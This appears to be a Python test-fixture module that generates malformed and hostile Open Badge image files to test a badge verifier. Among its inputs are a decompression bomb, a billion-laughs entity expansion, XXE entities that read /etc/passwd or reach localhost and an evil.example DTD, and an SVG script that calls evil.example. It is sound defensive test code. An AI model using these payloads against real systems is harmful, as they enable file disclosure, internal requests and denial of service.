"""Pictures that hold no badge of the office or too much, and files and codes that are nothing."""

import base64
import hashlib
import json
import struct
import zlib
from itertools import pairwise
from random import Random

from certificates.badges import baking
from forgeries.forger import Forger, forgery
from office import DRAWING, chunk, picture


@forgery
def png_that_is_broken(forger: Forger, random: Random) -> bytes:
    content = bytearray(baking.baked_png(picture(), json.dumps(forger.badge)))
    at = random.randrange(8, len(content))
    content[at] ^= 1 << random.randrange(8)
    return bytes(content)


@forgery
def png_cut_short(forger: Forger, random: Random) -> bytes:
    content = baking.baked_png(picture(), json.dumps(forger.badge))
    return content[: random.randrange(8, len(content) - 12)]


@forgery
def png_with_a_badge_that_is_changed(forger: Forger, random: Random) -> bytes:
    return baking.baked_png(picture(), json.dumps(forger.altered(random)))


@forgery
def png_with_two_badges(forger: Forger, _random: Random) -> bytes:
    once = baking.baked_png(picture(), json.dumps(forger.badge))
    return baking.baked_png(once, json.dumps(forger.other_badge))


@forgery
def png_of_very_many_parts(_forger: Forger, random: Random) -> bytes:
    many = chunk(b"tEXt", b"a\0b") * random.randrange(3000, 20_000)
    return picture()[:33] + many + picture()[33:]


@forgery
def png_with_a_badge_that_grows(_forger: Forger, random: Random) -> bytes:
    bomb = zlib.compress(b" " * 50_000_000, 9)
    data = b"openbadgecredential\0\1\0\0\0" + bomb
    return picture()[:33] + chunk(random.choice([b"iTXt"]), data) + picture()[33:]


@forgery
def png_that_lies_about_lengths(forger: Forger, random: Random) -> bytes:
    content = bytearray(baking.baked_png(picture(), json.dumps(forger.badge)))
    struct.pack_into("!I", content, random.choice([8, 33]), random.choice([0, 2**31, 2**32 - 1]))
    return bytes(content)


@forgery
def png_without_a_badge(_forger: Forger, random: Random) -> bytes:
    data = random.choice([b"openbadges\0\0\0\0\0{}", b"Comment\0\0\0\0\0x", b"openbadgecredential"])
    return picture()[:33] + chunk(b"iTXt", data) + picture()[33:]


def drawing(inside: str, before: str = "") -> bytes:
    return (before + DRAWING.decode().replace("</svg>", inside + "</svg>")).encode()


@forgery
def svg_with_scripts_and_a_badge_that_is_changed(forger: Forger, random: Random) -> bytes:
    script = "<script>fetch('https://evil.example/')</script><image href='https://evil.example/x'/>"
    return baking.baked_svg(drawing(script), json.dumps(forger.altered(random)))


@forgery
def svg_of_entities_that_grow(_forger: Forger, random: Random) -> bytes:
    names = [f"e{number}" for number in range(random.randrange(9, 20))]
    lines = [f'<!ENTITY {names[0]} "laugh">']
    for before, name in pairwise(names):
        lines.append(f'<!ENTITY {name} "{f"&{before};" * 10}">')
    doctype = f"<!DOCTYPE svg [{''.join(lines)}]>"
    return drawing(f"<text>&{names[-1]};</text>", doctype)


@forgery
def svg_with_what_lies_elsewhere(_forger: Forger, random: Random) -> bytes:
    place = random.choice(["file:///etc/passwd", "http://127.0.0.1/", "https://evil.example/x.dtd"])
    doctype = random.choice(
        [
            f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{place}">]>',
            f'<!DOCTYPE svg SYSTEM "{place}">',
            f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{place}"> %x;]>',
        ]
    )
    return drawing("<text>&x;</text>", doctype)


@forgery
def svg_with_two_badges(forger: Forger, _random: Random) -> bytes:
    once = baking.baked_svg(DRAWING, json.dumps(forger.badge))
    return baking.baked_svg(once, json.dumps(forger.other_badge))


@forgery
def svg_nested_deeply(forger: Forger, random: Random) -> bytes:
    deep = random.choice([200, 20_000, 100_000])
    return baking.baked_svg(drawing("<g>" * deep + "</g>" * deep), json.dumps(forger.badge))


@forgery
def svg_of_very_many_parts(forger: Forger, random: Random) -> bytes:
    many = random.choice(["<g/>" * 30_000, "<g/>" * 200_000])
    return baking.baked_svg(drawing(many), json.dumps(forger.badge))


@forgery
def svg_that_is_broken(forger: Forger, random: Random) -> bytes:
    content = baking.baked_svg(DRAWING, json.dumps(forger.badge))
    return random.choice(
        [content[: random.randrange(20, len(content) - 8)], content + b"<", b"<svg" * 9000, b"<"]
    )


@forgery
def something_else(_forger: Forger, random: Random) -> bytes:
    beginning = random.choice(
        [b"", b"PK\x03\x04", b"GIF89a", b"\x7fELF", b"\x1f\x8b", b"MZ", b"\0"]
    )
    return beginning + random.randbytes(random.randrange(100, 5000))


@forgery
def code_that_nobody_was_given(_forger: Forger, random: Random) -> bytes:
    octets = hashlib.sha256(random.randbytes(8)).digest()
    return base64.b32encode(octets)[:26].lower().replace(b"u", b"v")
